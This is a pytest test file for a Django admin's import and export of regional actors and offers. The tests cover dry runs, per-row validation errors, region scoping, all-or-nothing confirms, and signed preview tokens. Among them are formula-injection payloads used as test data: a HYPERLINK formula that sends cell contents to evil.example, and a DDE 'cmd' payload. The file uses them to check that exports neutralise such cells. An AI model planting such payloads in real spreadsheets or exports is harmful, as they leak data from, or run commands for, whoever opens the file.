"""Import and export of actors and offers: dry run, errors per row, only the own region."""

import csv
import io
import os
import tempfile

import openpyxl
import pytest
import tablib
from django.contrib.admin.models import LogEntry
from django.contrib.auth.models import Group, Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from actors.models import Actor
from actors.resources import ActorResource
from offers.models import EditorialStatus, Offer
from offers.resources import OfferResource
from regions.auth import ROLE_GROUPS
from regions.resources import ImportPreviewStorage, PreviewConfirmForm
from tests.factories import make_actor, make_offer

pytestmark = pytest.mark.django_db

ACTOR_HEADERS = ["slug", "name", "kind", "region", "municipality", "postcode", "city"]


def csv_file(headers, rows, name="import.csv"):
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(headers)
    writer.writerows(rows)
    return SimpleUploadedFile(name, out.getvalue().encode(), content_type="text/csv")


def test_import_dry_run_shows_changes_and_writes_nothing(client, users, world_a):
    client.force_login(users["editor_a"])
    town = world_a.objects["regions.municipality"].name
    upload = csv_file(
        ACTOR_HEADERS,
        [
            ["bibliothek-stade", "Stadtbibliothek Stade", "bibliothek", "", town, "21682", "Stade"],
            [world_a.objects["actors.actor"].slug, "VHS Stade umbenannt", "vhs", "", "", "", ""],
        ],
    )
    response = client.post(
        reverse("admin:actors_actor_import"), {"import_file": upload, "format": "0"}
    )
    assert response.status_code == 200
    result = response.context["result"]
    assert not result.has_errors()
    assert not result.has_validation_errors()
    assert [row.import_type for row in result.rows] == ["new", "update"]
    assert not Actor.objects.filter(slug="bibliothek-stade").exists()
    assert Actor.objects.get(pk=world_a.objects["actors.actor"].pk).name == "VHS Stade"

    confirm = response.context["confirm_form"]
    response = client.post(
        reverse("admin:actors_actor_process_import"),
        {name: confirm[name].value() for name in confirm.fields},
    )
    assert response.status_code == 302
    imported = Actor.objects.get(slug="bibliothek-stade")
    assert (imported.region, imported.municipality) == (
        world_a.region,
        world_a.objects["regions.municipality"],
    )
    assert imported.history.get().history_user == users["editor_a"]


def test_import_goes_only_into_the_importers_region(users, world_a, world_b):
    dataset = tablib.Dataset(headers=ACTOR_HEADERS)
    dataset.append(["kita-x", "Kita X", "kita", world_a.region.slug, "", "", ""])
    resource = ActorResource(user=users["coordinator_b"])
    result = resource.import_data(dataset, dry_run=False, user=users["coordinator_b"])
    assert not result.has_errors()
    assert Actor.objects.get(slug="kita-x").region == world_b.region


def test_import_needs_the_rights_to_add_and_to_change(client, users):
    editors = Group.objects.get(name=ROLE_GROUPS["redaktion"])
    editors.permissions.remove(Permission.objects.get(codename="add_actor"))
    client.force_login(users["editor_a"])
    assert client.get(reverse("admin:actors_actor_import")).status_code == 403


def test_import_row_without_slug_gets_a_german_unique_slug(users, world_b):
    make_actor(world_b.region, slug="musikschule-lueneburg", name="Alte Musikschule")
    dataset = tablib.Dataset(headers=ACTOR_HEADERS)
    dataset.append(["", "Musikschule Lüneburg", "musikschule", "", "", "", ""])
    dataset.append(["", "Bücherei Große Straße", "bibliothek", "", "", "", ""])
    resource = ActorResource(user=users["coordinator_b"])
    result = resource.import_data(dataset, dry_run=False, user=users["coordinator_b"])
    assert not result.has_errors() and not result.has_validation_errors()
    assert sorted(
        Actor.objects.filter(
            name__in=["Musikschule Lüneburg", "Bücherei Große Straße"]
        ).values_list("name", "slug")
    ) == [
        ("Bücherei Große Straße", "buecherei-grosse-strasse"),
        ("Musikschule Lüneburg", "musikschule-lueneburg-2"),
    ]


def test_import_reports_errors_per_row(users, world_a, world_b):
    dataset = tablib.Dataset(headers=ACTOR_HEADERS)
    dataset.append(["gut", "Gute Zeile", "vhs", "", "", "", ""])
    dataset.append(["falsche-art", "Falsche Art", "raumschiff", "", "", "", ""])
    dataset.append(["fremder-ort", "Fremder Ort", "vhs", "", "Hauptort Stade", "", ""])
    dataset.append([world_a.objects["actors.actor"].slug, "Übernahme", "vhs", "", "", "", ""])
    dataset.append(["plz", "Falsche PLZ", "vhs", "", "", "123", ""])
    resource = ActorResource(user=users["coordinator_b"])
    result = resource.import_data(dataset, dry_run=True, user=users["coordinator_b"])
    invalid = {row.number: sorted(row.error_dict) for row in result.invalid_rows}
    assert invalid == {2: ["kind"], 3: ["municipality"], 4: ["slug"], 5: ["postcode"]}
    assert result.invalid_rows[2].error_dict["slug"] == [
        f"Der Kurzname „{world_a.objects['actors.actor'].slug}“ ist schon vergeben."
    ]
    assert not Actor.objects.filter(slug="gut").exists()


def test_offer_import_checks_provider_region_and_starts_as_draft(users, world_a, world_b):
    headers = ["slug", "title", "provider", "summary", "learning_setting", "life_stages", "topics"]
    headers.append("status")
    dataset = tablib.Dataset(headers=headers)
    own = world_b.objects["actors.actor"].slug
    foreign = world_a.objects["actors.actor"].slug
    row = ["Kurz", "non-formal", "fruehe-kindheit", "sprache-und-lesen", "veroeffentlicht"]
    dataset.append(["lesestart", "Lesestart", own, *row])
    dataset.append(["fremd", "Fremd", foreign, *row])
    resource = OfferResource(user=users["coordinator_b"])
    result = resource.import_data(dataset, dry_run=False, user=users["coordinator_b"])
    assert {row.number: sorted(row.error_dict) for row in result.invalid_rows} == {2: ["provider"]}
    offer = Offer.objects.get(slug="lesestart")
    assert (offer.region, offer.status) == (world_b.region, EditorialStatus.DRAFT)
    assert [s.slug for s in offer.life_stages.all()] == ["fruehe-kindheit"]


def test_export_contains_only_the_own_region(client, users, world_a, world_b):
    client.force_login(users["coordinator_b"])
    response = client.post(
        reverse("admin:actors_actor_export"),
        {"format": "0", "actorresource_slug": "on", "actorresource_name": "on"},
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    own = sorted([a.slug, a.name] for a in Actor.objects.filter(region=world_b.region))
    assert rows == [["Kurzname in Adressen", "Name"], *own]


def test_export_of_selected_rows_takes_only_rows_of_the_own_region(client, users, world_a, world_b):
    own = world_b.objects["actors.actor"]
    foreign = world_a.objects["actors.actor"]
    client.force_login(users["coordinator_b"])
    url = reverse("admin:actors_actor_export")
    data = {"format": "0", "actorresource_slug": "on", "actorresource_name": "on"}
    response = client.post(url, {**data, "export_items": [own.pk]})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [["Kurzname in Adressen", "Name"], [own.slug, own.name]]
    # A row of another region among the selected ones: no file, the form says why.
    response = client.post(url, {**data, "export_items": [own.pk, foreign.pk]})
    assert response.status_code == 200
    assert response.context["form"].errors == {
        "export_items": [
            f"Bitte eine gültige Auswahl treffen. {foreign.pk} ist keine gültige Auswahl."
        ]
    }


def test_export_as_xlsx(client, users, world_b):
    client.force_login(users["coordinator_b"])
    response = client.post(
        reverse("admin:offers_offer_export"),
        {"format": "1", "offerresource_slug": "on", "offerresource_title": "on"},
    )
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    data = tablib.Dataset().load(response.content, format="xlsx")
    assert list(data) == [(world_b.objects["offers.offer"].slug, "Sprachkurs Lüneburg")]


# --- item 5: formulae in exports --------------------------------------------------------------
FORMULA_CHARS = ["=", "+", "-", "@", "\t", "\r"]
EXPORT_FORMATS = {"csv": "0", "xlsx": "1"}


def exported_rows(response, file_format):
    """The data rows of an admin export; XLSX cells as openpyxl cells."""
    if file_format == "csv":
        text = response.content.decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text, newline="")))[1:]
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows(min_row=2)]


def export_by_slug(client, model, fields, file_format):
    """POST the admin export of ``model`` ("app_model") with ``fields``; its rows by slug (the
    first field), as exported_rows gives them."""
    model_name = model.split("_", 1)[1]
    response = client.post(
        reverse(f"admin:{model}_export"),
        {
            "format": EXPORT_FORMATS[file_format],
            **{f"{model_name}resource_{field}": "on" for field in fields},
        },
    )
    assert response.status_code == 200
    return {
        (row[0] if file_format == "csv" else row[0].value): row[1:]
        for row in exported_rows(response, file_format)
    }


def assert_neutralised(cell, value, file_format):
    if file_format == "csv":
        assert cell == "'" + value
    else:  # a string cell, not a formula; reading XML turns a CR into LF
        assert (cell.value, cell.data_type) == ("'" + value.replace("\r", "\n"), "s")


@pytest.mark.parametrize("file_format", EXPORT_FORMATS)
@pytest.mark.parametrize("char", FORMULA_CHARS, ids=repr)
def test_export_neutralises_formulae_in_offers(client, users, world_b, char, file_format):
    title = char + 'HYPERLINK("https://evil.example/?x="&A1,"Klick")'
    summary = char + "cmd|' /C calc'!A0"
    offer = make_offer(provider=world_b.objects["actors.actor"], title=title, summary=summary)
    offer.slug = "formel"
    offer.save(update_fields=["slug"])
    client.force_login(users["coordinator_b"])
    rows = export_by_slug(client, "offers_offer", ["slug", "title", "summary"], file_format)
    assert sorted(rows) == sorted(
        Offer.objects.filter(region=world_b.region).values_list("slug", flat=True)
    )
    assert_neutralised(rows["formel"][0], title, file_format)
    assert_neutralised(rows["formel"][1], summary, file_format)


@pytest.mark.parametrize("file_format", EXPORT_FORMATS)
def test_export_neutralises_formulae_in_actors_but_not_numbers(client, users, world_b, file_format):
    names = {f"formel-{n}": char + "SUM(1+1)" for n, char in enumerate(FORMULA_CHARS)}
    for slug, name in names.items():
        make_actor(world_b.region, slug=slug, name=name, longitude=-1.5)
    client.force_login(users["coordinator_b"])
    exported = export_by_slug(client, "actors_actor", ["slug", "name", "longitude"], file_format)
    rows = {slug: cells for slug, cells in exported.items() if slug in names}
    assert sorted(rows) == sorted(names)
    for slug, name in names.items():
        assert_neutralised(rows[slug][0], name, file_format)
        longitude = rows[slug][1]
        assert (longitude if file_format == "csv" else longitude.value) == (
            "-1,5" if file_format == "csv" else -1.5
        )


# --- item 6: the confirm writes all rows or none ----------------------------------------------
OFFER_HEADERS = ["slug", "title", "provider", "summary", "learning_setting", "life_stages"]
NOTHING_IMPORTED = (
    "Es wurde nichts importiert: Einige Zeilen sind jetzt fehlerhaft (siehe unten). Bitte "
    "korrigieren Sie die Datei und laden Sie sie erneut hoch."
)
PREVIEW_REFUSED = (
    "Diese Vorschau ist abgelaufen oder gehört nicht zu Ihrem Import. Bitte laden Sie die Datei "
    "erneut hoch."
)


def offer_rows(*rows):
    """Import rows (slug, title, provider slug) of an offer file."""
    return [
        [slug, title, provider, "Kurz", "non-formal", "fruehe-kindheit"]
        for slug, title, provider in rows
    ]


def confirm_data(response):
    confirm = response.context["confirm_form"]
    return {name: confirm[name].value() for name in confirm.fields}


def shown_messages(response):
    return [str(message) for message in response.context["messages"]]


def test_import_confirm_writes_no_row_when_a_slug_was_taken_after_the_preview(
    client, users, world_a, world_b
):
    own = world_b.objects["actors.actor"].slug
    upload = csv_file(
        OFFER_HEADERS,
        offer_rows(
            ("lesestart", "Lesestart", own),
            ("leseclub", "Leseclub", own),
            ("vorlesen", "Vorlesen", own),
        ),
    )
    client.force_login(users["coordinator_b"])
    preview = client.post(
        reverse("admin:offers_offer_import"), {"import_file": upload, "format": "0"}
    )
    assert [row.import_type for row in preview.context["result"].rows] == ["new", "new", "new"]
    # Between preview and confirm another region takes row 2's slug.
    taken = make_offer(provider=world_a.objects["actors.actor"], slug="leseclub")

    response = client.post(reverse("admin:offers_offer_process_import"), confirm_data(preview))

    assert response.status_code == 200
    slugs = ["lesestart", "leseclub", "vorlesen"]
    assert list(Offer.objects.filter(slug__in=slugs)) == [taken]
    assert not LogEntry.objects.filter(user=users["coordinator_b"]).exists()
    result = response.context["result"]
    assert {row.number: row.error_dict for row in result.invalid_rows} == {
        2: {"slug": ["Der Kurzname „leseclub“ ist schon vergeben."]}
    }
    assert "Der Kurzname „leseclub“ ist schon vergeben." in response.content.decode()
    assert shown_messages(response) == [NOTHING_IMPORTED]


def test_import_confirm_of_a_preview_with_invalid_rows_writes_nothing(
    client, users, world_a, world_b
):
    own = world_b.objects["actors.actor"].slug
    foreign = world_a.objects["actors.actor"].slug
    rows = offer_rows(
        ("lesestart", "Lesestart", own), ("fremd", "Fremd", foreign), ("vorlesen", "Vorlesen", own)
    )
    client.force_login(users["coordinator_b"])
    preview = client.post(
        reverse("admin:offers_offer_import"),
        {"import_file": csv_file(OFFER_HEADERS, rows), "format": "0"},
    )
    # The preview shows the error and offers no confirm ...
    assert {row.number for row in preview.context["result"].invalid_rows} == {2}
    assert "confirm_form" not in preview.context
    # ... but a confirm for such a stored preview (as the original admin let one post) must
    # not write its valid rows either.
    out = io.StringIO()
    csv.writer(out).writerows([OFFER_HEADERS, *rows])
    storage = ImportPreviewStorage()
    storage.save(out.getvalue().encode())
    token = PreviewConfirmForm.sign(
        users["coordinator_b"],
        {"import_file_name": storage.name, "original_file_name": "angebote.csv", "format": "0"},
    )
    response = client.post(
        reverse("admin:offers_offer_process_import"),
        {"import_file_name": token, "original_file_name": "angebote.csv", "format": "0"},
    )

    assert response.status_code == 200
    assert not Offer.objects.filter(slug__in=["lesestart", "fremd", "vorlesen"]).exists()
    result = response.context["result"]
    assert {row.number: row.error_dict for row in result.invalid_rows} == {
        2: {"provider": [f"„{foreign}“ gibt es in dieser Region nicht."]}
    }
    assert shown_messages(response) == [NOTHING_IMPORTED]
    assert storage.read() is None  # used up


# --- item 8: the confirm reads only the user's own preview ------------------------------------
def test_import_preview_shows_no_filesystem_path(client, users, world_b):
    client.force_login(users["coordinator_b"])
    upload = csv_file(ACTOR_HEADERS, [["kita-x", "Kita X", "kita", "", "", "", ""]])
    response = client.post(
        reverse("admin:actors_actor_import"), {"import_file": upload, "format": "0"}
    )
    token = response.context["confirm_form"]["import_file_name"].value()
    assert tempfile.gettempdir() not in response.content.decode()
    assert "/" not in token


def test_import_preview_with_errors_drops_its_stored_file_a_valid_one_keeps_it(
    client, users, world_b
):
    client.force_login(users["coordinator_b"])
    url = reverse("admin:actors_actor_import")
    stored = {}
    for kind in ("raumschiff", "kita"):
        upload = csv_file(ACTOR_HEADERS, [["kita-x", "Kita X", kind, "", "", "", ""]])
        response = client.post(url, {"import_file": upload, "format": "0"})
        name = response.wsgi_request.FILES["import_file"].tmp_storage_name
        stored[kind] = ("confirm_form" in response.context, ImportPreviewStorage(name=name).read())
    content = b"slug,name,kind,region,municipality,postcode,city\r\nkita-x,Kita X,kita,,,,\r\n"
    assert stored == {"raumschiff": (False, None), "kita": (True, content)}


def test_import_confirm_refuses_a_file_of_the_server_temp_folder(client, users, world_b):
    content = b"slug,name,kind\r\nkita-x,Kita X,kita\r\n"
    handle, path = tempfile.mkstemp(suffix=".csv", dir=tempfile.gettempdir())
    with os.fdopen(handle, "wb") as file:
        file.write(content)
    client.force_login(users["coordinator_b"])
    try:
        for name in (os.path.basename(path), path):
            response = client.post(
                reverse("admin:actors_actor_process_import"),
                {"import_file_name": name, "original_file_name": "x.csv", "format": "0"},
            )
            assert response.status_code == 200
            assert shown_messages(response) == [PREVIEW_REFUSED]
            assert response.context["result"] is None
        with open(path, "rb") as file:
            assert file.read() == content
    finally:
        os.remove(path)
    assert not Actor.objects.filter(slug="kita-x").exists()


def test_import_page_after_a_refused_confirm_is_the_import_page(client, users, world_b):
    client.force_login(users["coordinator_b"])
    page = client.get(reverse("admin:actors_actor_import"))
    response = client.post(
        reverse("admin:actors_actor_process_import"),
        {"import_file_name": "x", "original_file_name": "x.csv", "format": "0"},
    )
    assert shown_messages(response) == [PREVIEW_REFUSED]
    assert response.templates[0].name == page.templates[0].name == "admin/import_export/import.html"
    assert response.context["title"] == page.context["title"] == "Importieren"
    for key in ("opts", "fields_list", "import_error_display"):
        assert response.context[key] == page.context[key], key
    assert str(response.context["media"]) == str(page.context["media"])
    form, expected = response.context["form"], page.context["form"]
    assert (type(form), form.is_bound, list(form.fields), form.initial) == (
        type(expected),
        False,
        list(expected.fields),
        expected.initial,
    )


def test_import_confirm_refuses_another_users_preview(client, users, world_a, world_b):
    upload = csv_file(ACTOR_HEADERS, [["kita-x", "Kita X", "kita", "", "", "", ""]])
    client.force_login(users["coordinator_a"])
    preview = client.post(
        reverse("admin:actors_actor_import"), {"import_file": upload, "format": "0"}
    )
    data = confirm_data(preview)

    client.force_login(users["coordinator_b"])
    response = client.post(reverse("admin:actors_actor_process_import"), data)
    assert shown_messages(response) == [PREVIEW_REFUSED]
    assert not Actor.objects.filter(slug="kita-x").exists()

    client.force_login(users["coordinator_a"])
    response = client.post(reverse("admin:actors_actor_process_import"), data, follow=True)
    assert response.redirect_chain == [(reverse("admin:actors_actor_changelist"), 302)]
    assert shown_messages(response) == [
        "Import fertiggestellt: 1 neue, 0 aktualisierte, 0 gelöschte und 0 übersprungene Akteure."
    ]
    assert Actor.objects.get(slug="kita-x").region == world_a.region
    # A preview is confirmed once.
    response = client.post(reverse("admin:actors_actor_process_import"), data)
    assert shown_messages(response) == [PREVIEW_REFUSED]


def test_import_xlsx_preview_and_confirm_through_the_cache(client, users, world_b):
    dataset = tablib.Dataset(headers=ACTOR_HEADERS)
    dataset.append(["kita-x", "Kita X", "kita", "", "", "", ""])
    upload = SimpleUploadedFile("akteure.xlsx", dataset.export("xlsx"))
    client.force_login(users["coordinator_b"])
    preview = client.post(
        reverse("admin:actors_actor_import"), {"import_file": upload, "format": "1"}
    )
    response = client.post(reverse("admin:actors_actor_process_import"), confirm_data(preview))
    assert response.status_code == 302
    assert Actor.objects.get(slug="kita-x").region == world_b.region
